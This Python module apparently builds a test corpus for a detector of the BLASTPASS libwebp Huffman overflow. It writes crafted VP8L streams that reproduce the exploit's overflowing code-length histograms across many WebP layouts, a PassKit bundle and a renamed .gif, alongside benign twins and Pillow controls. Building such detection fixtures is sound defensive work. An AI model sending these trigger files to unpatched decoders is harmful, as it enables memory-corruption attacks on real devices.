"""WebP samples: crafted VP8L streams carrying the BLASTPASS Huffman histograms, and benign
controls made with Pillow's libwebp encoder.

The crafted streams are written by ``VP8LWriter`` from the public facts: the code-length
histograms of the known exploit (green 654 entries, red/blue/alpha 630, an incomplete
distance code that builds 414 entries against 410). They carry the trigger structure
only: no pixel data, no payload.
"""

from __future__ import annotations

import io
import random
import struct
from collections.abc import Iterator, Sequence

from spywall.formats.vp8l import ALPHABETS, CODE_LENGTH_ORDER
from spywall.samples import Sample
from spywall.samples.containers import zip_of

HIT = frozenset({"webp-huffman-overflow"})
# Symbols per code length 0..15 of the known crafted codes.
GREEN = (0, 1, 1, 0, 0, 0, 0, 0, 0, 3, 229, 41, 1, 1, 1, 2)
RED = (0, 1, 1, 0, 0, 0, 0, 0, 0, 7, 241, 1, 1, 1, 1, 2)
DISTANCE = (0, 1, 1, 1, 1, 1, 0, 0, 0, 11, 5, 1, 10, 4, 2, 2)
CRAFTED = (GREEN, RED, RED, RED, DISTANCE)


def lengths_of(hist: Sequence[int], alphabet: int) -> list[int]:
    """Code lengths giving ``hist`` (symbols per length 1..15); other symbols unused."""
    out = [n for n in range(1, 16) for _ in range(hist[n])]
    if len(out) > alphabet:
        raise ValueError("histogram larger than the alphabet")
    return out + [0] * (alphabet - len(out))


class VP8LWriter:
    """LSB-first bit writer with helpers for the VP8L structures the samples need."""

    def __init__(self) -> None:
        self.acc = 0
        self.n = 0

    def put(self, value: int, bits: int) -> VP8LWriter:
        self.acc |= (value & ((1 << bits) - 1)) << self.n
        self.n += bits
        return self

    def getvalue(self, pad: int = 4) -> bytes:
        return self.acc.to_bytes((self.n + 7) // 8, "little") + bytes(pad)

    def header(self, width: int, height: int, alpha: bool = False) -> VP8LWriter:
        return self.put(0x2F, 8).put(width - 1, 14).put(height - 1, 14).put(alpha, 1).put(0, 3)

    def simple(self, *symbols: int) -> VP8LWriter:
        """A simple prefix code of one or two symbols (a single one reads no bits)."""
        self.put(1, 1).put(len(symbols) - 1, 1)
        first = symbols[0]
        self.put(first > 1, 1).put(first, 8 if first > 1 else 1)
        if len(symbols) == 2:
            self.put(symbols[1], 8)
        return self

    def normal(self, lengths: Sequence[int]) -> VP8LWriter:
        """A normal prefix code; code lengths 0..15 coded with 4 bits each."""
        self.put(0, 1).put(len(CODE_LENGTH_ORDER) - 4, 4)
        for sym in CODE_LENGTH_ORDER:
            self.put(4 if sym < 16 else 0, 3)
        self.put(0, 1)  # every symbol's length is given
        for n in lengths:  # canonical code of symbol n is n; Huffman codes go MSB first
            self.put(int(f"{n:04b}"[::-1], 2), 4)
        return self

    def trivial_group(self, green: int = 0, red: int = 0) -> VP8LWriter:
        """Five one-symbol codes: every pixel is (green, red, 0, 0) and costs no bits."""
        return self.simple(green).simple(red).simple(0).simple(0).simple(0)

    def crafted_group(self, cache_bits: int = 0,
                      hists: Sequence[Sequence[int]] = CRAFTED) -> VP8LWriter:
        for j, hist in enumerate(hists):
            extra = (1 << cache_bits) if j == 0 and cache_bits else 0
            self.normal(lengths_of(hist, ALPHABETS[j] + extra))
        return self

    def group(self, bad: bool, cache_bits: int = 0) -> VP8LWriter:
        return self.crafted_group(cache_bits) if bad else self.trivial_group()

    def cache(self, bits: int) -> VP8LWriter:
        return self.put(1, 1).put(bits, 4) if bits else self.put(0, 1)

    def trivial_subimage(self, green: int = 0, red: int = 0) -> VP8LWriter:
        return self.cache(0).trivial_group(green, red)


def chunk(fourcc: bytes, payload: bytes) -> bytes:
    pad = b"\x00" if len(payload) & 1 else b""
    return fourcc + struct.pack("<I", len(payload)) + payload + pad


def riff(*chunks: bytes) -> bytes:
    body = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _u24(v: int) -> bytes:
    return v.to_bytes(3, "little")


def vp8x(width: int, height: int, flags: int = 0) -> bytes:
    return chunk(b"VP8X", bytes([flags, 0, 0, 0]) + _u24(width - 1) + _u24(height - 1))


def anmf(width: int, height: int, frame: bytes) -> bytes:
    head = _u24(0) + _u24(0) + _u24(width - 1) + _u24(height - 1) + _u24(100) + b"\x00"
    return chunk(b"ANMF", head + frame)


def plain(width: int = 16, height: int = 16, alpha: bool = False, cache_bits: int = 0,
          bad: bool = True) -> bytes:
    """VP8L with no transform and one group in the main image (crafted if ``bad``)."""
    w = VP8LWriter().header(width, height, alpha).put(0, 1).cache(cache_bits).put(0, 1)
    return w.group(bad, cache_bits).getvalue()


def benign_vp8l(width: int = 16, height: int = 16) -> bytes:
    return plain(width, height, bad=False)


def behind_transforms(bad: bool = True) -> bytes:
    """Subtract-green, then a predictor transform with a 4x4 sub-image, then the codes."""
    w = VP8LWriter().header(64, 64).put(1, 1).put(2, 2)  # subtract green
    w.put(1, 1).put(0, 2).put(4 - 2, 3).trivial_subimage()  # predictor, 16x16 blocks
    return w.put(0, 1).cache(0).put(0, 1).group(bad).getvalue()


def meta_codes(bad: bool = True) -> bytes:
    """An entropy image pointing every block at group 1; group 0 benign, group 1 crafted."""
    w = VP8LWriter().header(32, 32).put(0, 1).cache(0)
    w.put(1, 1).put(3 - 2, 3).trivial_subimage(green=1)  # 4x4 entropy image, meta code 1
    return w.trivial_group().group(bad).getvalue()


def in_subimage(bad: bool = True) -> bytes:
    """The crafted codes in the colour transform's sub-image (4x4 for 16x16 blocks)."""
    w = VP8LWriter().header(32, 32).put(1, 1).put(1, 2).put(3 - 2, 3)
    w.cache(0).group(bad)
    return w.put(0, 1).cache(0).put(0, 1).trivial_group().getvalue()


def animated(bad: bool = True) -> bytes:
    frames = anmf(16, 16, chunk(b"VP8L", benign_vp8l())) + \
        anmf(16, 16, chunk(b"VP8L", plain(bad=bad)))
    anim = chunk(b"ANIM", bytes(4) + struct.pack("<H", 0))
    return riff(vp8x(16, 16, 0x02), anim, frames)


def lossy_with_alpha(bad: bool = True) -> bytes:
    """A lossy picture (Pillow's VP8 chunk) whose ALPH chunk is a headerless VP8L stream."""
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (16, 16), (40, 90, 200)).save(buf, "WEBP", quality=80)
    vp8 = buf.getvalue()[12:]  # the simple file's only chunk, "VP8 "
    alpha = VP8LWriter().put(0, 1).cache(0).put(0, 1).group(bad).getvalue()
    return riff(vp8x(16, 16, 0x10), chunk(b"ALPH", b"\x01" + alpha), vp8)


def crafted_streams(bad: bool = True) -> Iterator[tuple[str, bytes]]:
    """The crafted WebP files; with ``bad=False`` their twins with one-symbol codes."""
    yield "plain", riff(chunk(b"VP8L", plain(bad=bad)))
    yield "vp8x", riff(vp8x(16, 16), chunk(b"VP8L", plain(bad=bad)))
    yield "animated", animated(bad)
    yield "transforms", riff(chunk(b"VP8L", behind_transforms(bad)))
    yield "cache6", riff(vp8x(32, 32, 0x10),
                         chunk(b"VP8L", plain(32, 32, alpha=True, cache_bits=6, bad=bad)))
    yield "meta-group1", riff(chunk(b"VP8L", meta_codes(bad)))
    yield "subimage", riff(chunk(b"VP8L", in_subimage(bad)))
    yield "alph", lossy_with_alpha(bad)


def _pillow(frames: Sequence[object], **kw: object) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    first = frames[0]
    assert isinstance(first, Image.Image)
    first.save(buf, "WEBP", save_all=len(frames) > 1, append_images=list(frames[1:]), **kw)
    return buf.getvalue()


def benign_images() -> Iterator[tuple[str, bytes]]:
    from PIL import Image

    rng = random.Random(20230907)
    grad = Image.new("RGB", (96, 64))
    grad.putdata([(x * 2, y * 3, (x + y) & 255) for y in range(64) for x in range(96)])
    noise = Image.frombytes("RGBA", (48, 48), bytes(rng.randrange(256) for _ in range(48 * 48 * 4)))
    pal = Image.new("RGB", (64, 64))
    colours = [(255, 0, 0), (0, 255, 0), (0, 0, 255), (250, 250, 250)]
    pal.putdata([colours[(x // 8 + y // 8) % 4] for y in range(64) for x in range(64)])
    side = 256
    photo = Image.new("RGBA", (side, side))
    photo.putdata([((x + rng.randrange(8)) & 255, (y * 2 + rng.randrange(4)) & 255, (x ^ y) & 255,
                    255 if (x // 32 + y // 32) % 2 else 128)
                   for y in range(side) for x in range(side)])
    frames = [Image.new("RGBA", (32, 32), (i * 60, 255 - i * 60, 90, 200)) for i in range(3)]
    yield "benign-lossless-gradient.webp", _pillow([grad], lossless=True)
    yield "benign-lossless-noise-rgba.webp", _pillow([noise], lossless=True)
    yield "benign-lossless-palette.webp", _pillow([pal], lossless=True)
    yield "benign-lossless-photo-cache.webp", _pillow([photo], lossless=True)
    yield "benign-lossless-photo-meta.webp", _pillow([photo], lossless=True, method=6, quality=10)
    yield "benign-animated-lossless.webp", _pillow(frames, lossless=True)
    yield "benign-lossy.webp", _pillow([grad], quality=80)
    yield "benign-lossy-alpha.webp", _pillow([photo], quality=80)
    checks = []
    for i in range(3):  # lossy frames with lossless-compressed alpha: ANMF + ALPH + VP8
        im = Image.new("RGBA", (48, 48), (i * 60, 40, 200, 255))
        for k in range(0, 48, 16):
            im.paste((200, i * 50, 10, 100), (k, (k + 8 * i) % 48, k + 8, (k + 8 * i) % 48 + 8))
        checks.append(im)
    yield "benign-animated-lossy-alpha.webp", _pillow(checks, quality=70)


NOTES = {
    "plain": "crafted codes in a simple VP8L file",
    "vp8x": "VP8L inside an extended (VP8X) file",
    "animated": "frame 2 of an ANMF animation",
    "transforms": "behind subtract-green and a predictor transform with a sub-image",
    "cache6": "Apple's PoC shape: 32x32 with alpha, colour cache of 6 bits",
    "meta-group1": "meta prefix codes: the overflowing group is group 1",
    "subimage": "the crafted codes inside the colour transform's sub-image",
    "alph": "lossy picture whose lossless-compressed alpha (ALPH) carries the codes",
}


def samples() -> Iterator[Sample]:
    for name, data in crafted_streams():
        yield Sample(f"blastpass-{name}.webp", data, HIT, NOTES[name])
    data = riff(chunk(b"VP8L", plain()))
    yield Sample("blastpass-renamed.gif", data, HIT, "named .gif; content sniffing finds WebP")
    yield Sample("blastpass.pkpass", zip_of({"pass.json": b'{"formatVersion": 1}',
                                             "logo.png": data}), HIT,
                 "BLASTPASS delivery shape: a PassKit bundle holding the WebP")
    for name, data in crafted_streams(bad=False):
        yield Sample(f"benign-twin-{name}.webp", data, frozenset(),
                     "the crafted layout with one-symbol codes (libwebp decodes it)")
    for name, blob in benign_images():
        yield Sample(name, blob, frozenset(), "Pillow (libwebp) encoder output")
